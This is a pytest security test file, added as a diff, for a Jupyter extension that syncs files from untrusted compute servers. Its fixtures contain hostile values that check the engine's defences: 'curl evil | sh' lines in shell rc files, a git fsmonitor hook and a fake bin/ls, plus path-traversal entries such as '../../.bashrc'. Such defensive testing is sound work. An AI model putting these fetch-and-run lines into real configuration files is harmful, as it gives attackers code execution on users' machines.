@@ -1,0 +1,478 @@
+"""A compute server is not trusted: what its sync process sends must never run code on the
+Jupyter host, write outside the Jupyter root or stall Jupyter.
+
+The engine runs here against the real sync agent in a process of its own (on pipes), or
+against a hostile stand-in that answers with what it likes; the API tests use a real Jupyter
+server (pytest-jupyter) with the extension."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jupyter_compute_servers.models import ServerConfig
+from jupyter_compute_servers.store import ServerStore
+from jupyter_compute_servers.sync import engine, transfer
+from jupyter_compute_servers.sync.engine import SyncEngine, SyncRefused
+from jupyter_compute_servers.sync.records import SyncStore
+from jupyter_compute_servers.sync.settings import SyncSettings
+from jupyter_compute_servers.sync.transfer import SyncSession
+
+MARKER = ".jupyter-compute-servers-sync.json"
+
+
+def files(root: Path) -> dict[str, bytes]:
+    return {
+        p.relative_to(root).as_posix(): p.read_bytes()
+        for p in root.rglob("*")
+        if p.is_file() and not p.is_symlink() and p.name != MARKER
+    }
+
+
+def write(root: Path, tree: dict[str, str]) -> None:
+    for name, content in tree.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(content)
+
+
+class Pair:
+    """The Jupyter root ("local"), a server's workspace ("remote"), a record, and the real
+    sync agent serving the workspace in its own process."""
+
+    def __init__(self, tmp: Path) -> None:
+        self.local, self.remote = tmp / "local", tmp / "remote"
+        self.local.mkdir()
+        self.remote.mkdir()
+        self.servers = ServerStore(f"sqlite:///{tmp / 'servers.db'}", clock=time.time)
+        self.servers.create(
+            name="box",
+            color="#000000",
+            notes="",
+            cloud="local",
+            config=ServerConfig(),
+            idle_timeout_minutes=None,
+            spend_limit=None,
+        )
+        self.store = SyncStore(self.servers.path)
+        self.session: SyncSession | None = None
+
+    async def sync(self, settings: SyncSettings | None = None, **kwargs: Any) -> dict[str, Any]:
+        if self.session is None:
+            self.session = await SyncSession.in_subprocess()
+        await self.session.open(str(self.remote))
+        engine = SyncEngine(
+            local_root=str(self.local),
+            session=self.session,
+            store=self.store,
+            server_id=1,
+            server_name="box",
+            settings=settings or SyncSettings(),
+            **kwargs,
+        )
+        return (await engine.run()).to_json()
+
+    async def close(self) -> None:
+        if self.session is not None:
+            await self.session.close()
+        self.store.close()
+        self.servers.close()
+
+
+@pytest.fixture
+def pair(tmp_path, jp_asyncio_loop):
+    pair = Pair(tmp_path)
+    yield pair
+    jp_asyncio_loop.run_until_complete(pair.close())
+
+
+# --- files that could run code here --------------------------------------------------------
+
+
+async def test_a_pull_holds_back_what_could_run_code_here_until_allowed_by_name(pair):
+    local, remote = pair.local, pair.remote
+    write(local, {".npmrc": "registry=mine\n", ".Rprofile": "mine\n", "notes.txt": "hi"})
+    first = await pair.sync()
+    assert first["sent"]["files"] == 3 and first["held_back"]["files"] == 0
+    # The server changes, adds and deletes files that shells, git, editors and runtimes read.
+    evil = {
+        ".bash_aliases": "alias ls='curl evil | sh'\n",
+        ".zshenv": "curl evil | sh\n",
+        ".gitconfig": "[core]\n\tfsmonitor = curl evil | sh\n",
+        ".hgrc": "[hooks]\n",
+        ".condarc": "channels: [evil]\n",
+        ".vimrc": "!curl evil\n",
+        ".envrc": "curl evil | sh\n",
+        ".julia/config/startup.jl": "run(`curl evil`)\n",
+        "proj/.envrc": "curl evil | sh\n",
+        "proj/.vscode/settings.json": "{}\n",
+        "sitecustomize.py": "import os\n",
+        "lib/usercustomize.py": "import os\n",
+        "jupyter_server_config.py": "c = 1\n",
+        "bin/ls": "#!/bin/sh\ncurl evil | sh\n",
+        ".npmrc": "registry=evil\n",
+    }
+    write(remote, evil)
+    (remote / ".Rprofile").unlink()
+    write(remote, {"results.csv": "1,2\n", "proj/main.py": "print(1)\n"})
+
+    summary = await pair.sync()
+    assert files(local) == {
+        ".npmrc": b"registry=mine\n",
+        ".Rprofile": b"mine\n",
+        "notes.txt": b"hi",
+        "results.csv": b"1,2\n",
+        "proj/main.py": b"print(1)\n",
+    }
+    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
+    assert held == {**dict.fromkeys(evil, "pull"), ".Rprofile": "delete_local"}
+    assert summary["held_back"]["files"] == len(evil) + 1
+    assert summary["held_back"]["message"] == (
+        f"held back: {len(evil) + 1} file(s) that could run code here; "
+        "allow them by name in Sync settings"
+    )
+    assert summary["deleted"] == {"local": 0, "remote": 0}
+    # Nothing is lost on the server either.
+    assert files(remote) == {
+        **{name: content.encode() for name, content in evil.items()},
+        "notes.txt": b"hi",
+        "results.csv": b"1,2\n",
+        "proj/main.py": b"print(1)\n",
+    }
+    # Held back again next time (and still listed), until allowed by name.
+    again = await pair.sync()
+    assert again["held_back"]["files"] == len(evil) + 1 and again["received"]["files"] == 0
+    allowed = SyncSettings(pull_executable_config=(".npmrc", "proj/", "/bin/ls", "!proj/.vscode/"))
+    summary = await pair.sync(allowed)
+    assert (local / ".npmrc").read_text() == "registry=evil\n"
+    assert (local / "proj" / ".envrc").read_text() == "curl evil | sh\n"
+    assert (local / "proj" / ".vscode" / "settings.json").exists()  # inside an allowed dir
+    assert (local / "bin" / "ls").exists()
+    assert not (local / ".bash_aliases").exists() and (local / ".Rprofile").exists()
+    assert summary["held_back"]["files"] == len(evil) + 1 - 4
+
+
+async def test_a_chmod_or_conflict_from_the_server_never_changes_a_held_back_file(pair):
+    local, remote = pair.local, pair.remote
+    write(local, {".envrc": "export A=1\n", ".env": "A=1\n"})
+    await pair.sync()
+    (remote / ".envrc").chmod(0o755)
+    (remote / ".env").write_text("A=2, theirs\n")
+    (local / ".env").write_text("A=3, mine\n")
+    summary = await pair.sync()
+    assert (local / ".envrc").stat().st_mode & 0o777 == 0o644
+    assert (local / ".env").read_text() == "A=3, mine\n"
+    assert (remote / ".env").read_text() == "A=2, theirs\n"
+    assert sorted(files(local)) == [".env", ".envrc"]
+    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
+    assert held == {".envrc": "chmod_local", ".env": "conflict"}
+
+
+# --- mass deletions -------------------------------------------------------------------------
+
+
+async def test_a_server_that_keeps_one_file_cannot_delete_every_copy_here_unasked(pair):
+    names = {f"paper-{i}.tex": f"chapter {i}" for i in range(6)}
+    write(pair.local, names)
+    await pair.sync()
+    for name in list(names)[1:]:
+        (pair.remote / name).unlink()
+    with pytest.raises(SyncRefused) as refused:
+        await pair.sync()
+    message = str(refused.value)
+    assert "would delete 5 of the 6 synced file(s) on the Jupyter root" in message
+    assert "limit of 50%" in message and "confirm_deletions" in message
+    assert files(pair.local) == {k: v.encode() for k, v in names.items()}
+    # A higher limit for this server, or a confirmation, lets it through.
+    assert await pair.sync(SyncSettings(max_delete_percent=90)) is not None
+    write(pair.remote, dict(list(names.items())[1:]))
+    await pair.sync()
+    for name in list(names)[1:]:
+        (pair.remote / name).unlink()
+    summary = await pair.sync(confirm_deletions=True)
+    assert summary["deleted"] == {"local": 5, "remote": 0}
+    assert summary["deletion_guard"] == {
+        "local": 5,
+        "remote": 0,
+        "synced": 6,
+        "max_percent": 50,
+        "empty_side": None,
+        "confirmed": True,
+    }
+    assert list(files(pair.local)) == ["paper-0.tex"]
+
+
+# --- permissions -----------------------------------------------------------------------------
+
+
+async def test_pulled_files_get_the_local_umask_and_the_server_keeps_its_modes(pair):
+    remote = pair.remote
+    write(remote, {"shared.txt": "x", "tool.sh": "#!/bin/sh\n", "private.txt": "p"})
+    (remote / "shared.txt").chmod(0o666)
+    (remote / "tool.sh").chmod(0o777)
+    (remote / "private.txt").chmod(0o600)
+    old = os.umask(0o027)
+    try:
+        summary = await pair.sync()
+        assert summary["received"]["files"] == 3
+        modes = {p.name: p.stat().st_mode & 0o777 for p in pair.local.iterdir() if p.is_file()}
+        assert modes["shared.txt"] == 0o640
+        assert modes["tool.sh"] == 0o750
+        assert modes["private.txt"] == 0o600
+        # Nothing to do next time, and the server's modes were left alone.
+        again = await pair.sync()
+        assert again["changes"] == [] and again["chmod"] == {"local": 0, "remote": 0}
+        assert (remote / "shared.txt").stat().st_mode & 0o777 == 0o666
+        assert (remote / "tool.sh").stat().st_mode & 0o777 == 0o777
+        # A mode the server changes comes through the umask too.
+        (remote / "private.txt").chmod(0o777)
+        chmod = await pair.sync()
+        assert chmod["chmod"] == {"local": 1, "remote": 0}
+        assert (pair.local / "private.txt").stat().st_mode & 0o777 == 0o750
+    finally:
+        os.umask(old)
+
+
+# --- a hostile sync agent against a real Jupyter server ------------------------------------
+
+
+class _Source:
+    """What the hostile agent sends: bytes, or an endless stream of them."""
+
+    def __init__(self, data: bytes = b"", endless: bytes = b"") -> None:
+        self.data, self.endless = data, endless
+
+
+class HostileAgent:
+    """A stand-in for the server's sync process, on the wire: it reads the engine's requests
+    and answers, per operation, with what ``answers`` says (bytes, or an endless stream), so
+    the real framing, limits and checks on our side meet it. Counts what was read of it."""
+
+    def __init__(self, answers: dict[str, Any]) -> None:
+        self.answers = answers
+        self.queue: list[_Source] = []
+        self.pending = b""
+        self.read_bytes = 0
+        self.requests: list[dict[str, Any]] = []
+        self.put: dict[str, Any] | None = None
+        self.more = asyncio.Event()
+
+    # The engine's end of the channel: requests in.
+    def write(self, data: bytes) -> None:
+        self.pending += data
+        while True:
+            if self.put is not None:
+                # A put's data and trailer: taken, and answered as written.
+                size = self.put["size"]
+                if len(self.pending) < size or b"\n" not in self.pending[size:]:
+                    return
+                content, self.pending = self.pending[:size], self.pending[size:]
+                self.pending = self.pending.partition(b"\n")[2]
+                self.put = None
+                digest = hashlib.sha256(content).hexdigest()
+                sig = [size, 1, 99, 1]
+                self.queue.append(_Source(line({"ok": True, "hash": digest, "sig": sig})))
+                self.more.set()
+                continue
+            if b"\n" not in self.pending:
+                return
+            request_line, _, self.pending = self.pending.partition(b"\n")
+            request = json.loads(request_line)
+            self.requests.append(request)
+            if request.get("op") == "put":
+                self.put = request
+                continue
+            answer = self.answers.get(request.get("op"), b'{"ok":true}\n')
+            if callable(answer):
+                answer = answer(request)
+            self.queue.append(answer if isinstance(answer, _Source) else _Source(answer))
+            self.more.set()
+
+    async def drain(self) -> None:
+        await asyncio.sleep(0)
+
+    # Answers out.
+    async def read(self, n: int) -> bytes:
+        while True:
+            while self.queue and not self.queue[0].data and not self.queue[0].endless:
+                self.queue.pop(0)
+            if self.queue:
+                break
+            self.more.clear()
+            await self.more.wait()
+        source = self.queue[0]
+        await asyncio.sleep(0)  # a network: other tasks run between reads
+        if source.data:
+            chunk, source.data = source.data[:n], source.data[n:]
+        else:
+            chunk = (source.endless * (n // len(source.endless) + 1))[:n]
+        self.read_bytes += len(chunk)
+        return chunk
+
+    async def readexactly(self, n: int) -> bytes:
+        out = b""
+        while len(out) < n:
+            out += await self.read(n - len(out))
+        return out
+
+    def session(self) -> SyncSession:
+        async def close() -> None:
+            return None
+
+        return SyncSession(self, self, close, lambda: True)
+
+
+def line(message: Any) -> bytes:
+    return json.dumps(message).encode() + b"\n"
+
+
+def scan_answer(files: list[list[Any]], lists: dict[str, int] | None = None) -> bytes:
+    head = {"token": "t", "lists": lists or {"files": len(files), "skipped": 0, "pruned": 0}}
+    payload = line(head) + b"".join(
+        line(["files", files[i : i + 1000]]) for i in range(0, len(files), 1000)
+    )
+    return line({"ok": True, "size": len(payload)}) + payload
+
+
+OPEN = line({"ok": True, "root": "/srv/workspace", "tree_id": "f" * 32})
+
+
+async def test_jupyter_stays_responsive_and_writes_nothing_against_a_hostile_sync_agent(
+    api, wait_for_state, jp_serverapp, jp_root_dir, monkeypatch
+):
+    service = jp_serverapp.web_app.settings["compute_servers_sync"]
+    _, server = await api("POST", "servers", {"name": "box"})
+    await api("POST", f"servers/{server['id']}/actions/start")
+    server = await wait_for_state(server["id"], "running", "error")
+    assert server["state"] == "running", server
+    (jp_root_dir / "mine.txt").write_text("mine")
+    before = files(jp_root_dir)
+    agent: list[HostileAgent] = []
+
+    async def hostile_session(server_id: int, python: str) -> SyncSession:
+        return agent[-1].session()
+
+    monkeypatch.setattr(service, "_session", hostile_session)
+
+    # Parsing and checking the server's answers, watched: status answers that come while
+    # it is under way are counted (none could, were it done on the event loop).
+    checking = {"now": 0}
+
+    def watched(function: Any) -> Any:
+        def call(*args: Any, **kwargs: Any) -> Any:
+            checking["now"] += 1
+            try:
+                return function(*args, **kwargs)
+            finally:
+                checking["now"] -= 1
+
+        return call
+
+    monkeypatch.setattr(transfer, "parse_payload", watched(transfer.parse_payload))
+    monkeypatch.setattr(engine, "side_from_scan", watched(engine.side_from_scan))
+    answered_while_checking: list[int] = []
+
+    async def run(answers: dict[str, Any], body: dict | None = None) -> dict[str, Any]:
+        """A sync against such an agent; Jupyter's status answers all along."""
+        agent.append(HostileAgent({"open": OPEN, **answers}))
+        code, started = await api("POST", f"servers/{server['id']}/sync", body or {})
+        assert code == 202, started
+        answered_while_checking.append(0)
+        while True:
+            code, status = await api("GET", "status")
+            assert code == 200, status
+            if checking["now"]:
+                answered_while_checking[-1] += 1
+            code, sync = await api("GET", f"servers/{server['id']}/syncs/{started['id']}")
+            assert code == 200
+            if sync["state"] != "running":
+                return sync
+
+    # An answer announced as 10 GiB: refused before it is read.
+    sync = await run({"scan": line({"ok": True, "size": 10 << 30})})
+    assert sync["state"] == "failed"
+    assert "server 'box'" in sync["error"] and "SyncService.max_answer_mb" in sync["error"]
+    assert "more than the limit of 268435456 bytes" in sync["error"]
+    assert agent[-1].read_bytes < 1 << 20
+
+    # One endless line: refused once it is longer than a message line may be.
+    sync = await run({"scan": _Source(endless=b"x" * 4096)})
+    assert sync["state"] == "failed", sync
+    assert "server 'box'" in sync["error"] and "longer than the limit of 65536" in sync["error"]
+    assert agent[-1].read_bytes < 1 << 20
+
+    # More entries than allowed (the limit lowered for the test).
+    monkeypatch.setattr(service, "max_scan_entries", 1000)
+    many = [[f"f{i}.txt", 1, 1, 0o644, i, 1] for i in range(1500)]
+    sync = await run({"scan": scan_answer(many)})
+    assert sync["state"] == "failed"
+    assert "1500 entries, more than the limit of 1000" in sync["error"]
+    assert "server 'box'" in sync["error"]
+    monkeypatch.setattr(service, "max_scan_entries", 1_000_000)
+
+    # Malformed: JSON nested too deep for a parser, a line that is not JSON, counts that lie,
+    # paths out of the tree.
+    deep = b"[" * 30000 + b"]" * 30000 + b"\n"
+    for answers, expected in [
+        ({"scan": deep}, "answered nonsense"),
+        ({"scan": line({"ok": True, "size": 8}) + b"{nope}\n\n"}, "malformed answer"),
+        ({"scan": line({"ok": True, "size": 12}) + b'{"lists":{}}'}, "does not end"),
+        ({"scan": scan_answer([], {"files": 3})}, "fewer files than it announced"),
+        ({"scan": scan_answer([["../../.bashrc", 1, 1, 0o644, 1, 1]])}, "invalid path"),
+        ({"scan": scan_answer([["/etc/cron.d/x", 1, 1, 0o644, 1, 1]])}, "invalid path"),
+        ({"scan": scan_answer([["a.txt", 1, 1, 0o7777, 1, 1]])}, "bad file entry"),
+    ]:
+        sync = await run(answers)
+        assert sync["state"] == "failed", (answers, sync)
+        assert expected in sync["error"] and "server 'box'" in sync["error"], sync["error"]
+
+    # A large answer, well-formed until its last entry: parsed and checked on a thread while
+    # the status keeps answering; then refused.
+    large = [[f"d{i // 1000}/f{i}.txt", 10, 1, 0o644, i, 1] for i in range(150_000)]
+    large.append(["../escape", 1, 1, 0o644, 1, 1])
+    sync = await run({"scan": scan_answer(large)})
+    assert sync["state"] == "failed" and "invalid path" in sync["error"]
+    assert answered_while_checking[-1] > 0
+
+    # Executable configuration among ordinary files: only the ordinary ones arrive, with
+    # the local umask, and the rest is listed as held back.
+    served = {
+        "ok.txt": b"fine",
+        ".bash_aliases": b"evil",
+        ".gitconfig": b"evil",
+        "proj/.envrc": b"evil",
+        "bin/ls": b"evil",
+        "sitecustomize.py": b"evil",
+    }
+
+    def get(request: dict[str, Any]) -> bytes:
+        data = served[request["path"]]
+        header = {"ok": True, "size": len(data), "mode": 0o777, "mtime_ns": 10**18}
+        return line(header) + data + line({"ok": True, "sig": [len(data), 10**18, 7, 1]})
+
+    listing = [
+        [path, len(data), 10**18, 0o777, i, 1] for i, (path, data) in enumerate(served.items())
+    ]
+    sync = await run({"scan": scan_answer(listing), "get": get})
+    assert sync["state"] == "completed", sync
+    assert [r["path"] for r in agent[-1].requests if r["op"] == "get"] == ["ok.txt"]
+    assert files(jp_root_dir) == {**before, "ok.txt": b"fine"}
+    assert (jp_root_dir / "ok.txt").stat().st_mode & 0o777 == 0o777 & ~_umask()
+    assert sync["summary"]["held_back"]["files"] == 5
+    # Nothing else anywhere: no temporary files left, nothing outside the root.
+    assert files(jp_root_dir) == {**before, "ok.txt": b"fine"}
+    assert not [p for p in jp_root_dir.parent.rglob("*escape*")]
+    await api("POST", f"servers/{server['id']}/actions/stop")
+    await wait_for_state(server["id"], "off", "error")
+
+
+def _umask() -> int:
+    old = os.umask(0o022)
+    os.umask(old)
+    return old
